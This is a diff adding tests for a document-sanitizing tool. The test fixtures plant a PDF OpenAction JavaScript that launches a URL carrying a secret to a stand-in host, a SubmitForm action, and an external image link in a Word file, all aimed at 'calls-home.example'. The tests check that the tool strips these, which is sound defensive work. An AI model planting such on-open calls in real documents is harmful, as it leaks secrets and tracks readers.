@@ -73,6 +73,13 @@ describe('a PDF', () => {
     page.node.set(PDFName.of('Annots'), document.context.obj([document.context.register(remark)]));
     const xmp = document.context.stream(`<x:xmpmeta>${secret}</x:xmpmeta>`);
     document.catalog.set(PDFName.of('Metadata'), document.context.register(xmp));
+    const call = {
+      S: 'JavaScript',
+      JS: PDFString.of(`app.launchURL("https://${secret}.example")`),
+    };
+    document.catalog.set(PDFName.of('OpenAction'), document.context.obj(call));
+    const sent = { S: 'SubmitForm', F: PDFString.of('https://calls-home.example') };
+    remark.set(PDFName.of('A'), document.context.register(document.context.obj(sent)));
     // What an earlier version left behind: nothing leads to it.
     document.context.register(PDFString.of(`${secret} before`));
     if (attachment) await document.attach(strToU8('inside'), 'inside.txt');
@@ -92,6 +99,10 @@ describe('a PDF', () => {
       undefined,
     ]);
     expect(again.catalog.has(PDFName.of('Metadata'))).toBe(false);
+    // Whoever opens it calls nobody.
+    expect(again.catalog.has(PDFName.of('OpenAction'))).toBe(false);
+    const written = await again.save({ useObjectStreams: false });
+    expect(holds(written, '/JavaScript') || holds(written, '/SubmitForm')).toBe(false);
     expect(again.getPage(0).node.Annots()).toBeInstanceOf(PDFArray);
     const open = await again.save({ useObjectStreams: false });
     expect(holds(open, secret)).toBe(false);
@@ -123,6 +134,9 @@ describe('an office document', () => {
       'docProps/app.xml': strToU8(`<c><Company>${secret}</Company></c>`),
       'docProps/custom.xml': strToU8(`<c>${secret}</c>`),
       'docProps/thumbnail.jpeg': await photograph(),
+      'word/_rels/document.xml.rels': strToU8(
+        `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://x/image" Target="https://calls-home.example/a.png?a=1&amp;b=2" TargetMode="External"/><Relationship Id="rId2" Type="http://x/hyperlink" Target="https://source.example/?a=1&amp;b=2" TargetMode="External"/><Relationship Id="rId3" Type="http://x/image" Target="media/image1.jpeg"/></Relationships>`,
+      ),
       'word/document.xml': strToU8('<w:document>What it says</w:document>'),
       'word/media/image1.jpeg': await photograph(),
     });
@@ -139,6 +153,11 @@ describe('an office document', () => {
     expect(all.join('\n')).toContain('What it says');
     expect(all.filter((part) => part.includes(secret))).toEqual([]);
     expect(Object.keys(parts)).not.toContain('docProps/thumbnail.jpeg');
+    // Whoever opens it calls nobody; a link that a person follows stays, and so does what is inside.
+    const links = strFromU8(parts['word/_rels/document.xml.rels'] ?? new Uint8Array());
+    expect(links).not.toContain('calls-home');
+    expect(links).toContain('Target="https://source.example/?a=1&#38;b=2" TargetMode="External"');
+    expect(links).toContain('Id="rId3" Type="http://x/image" Target="media/image1.jpeg"');
     expect(strFromU8(parts['_rels/.rels'] ?? new Uint8Array())).not.toContain('thumbnail');
   });
 
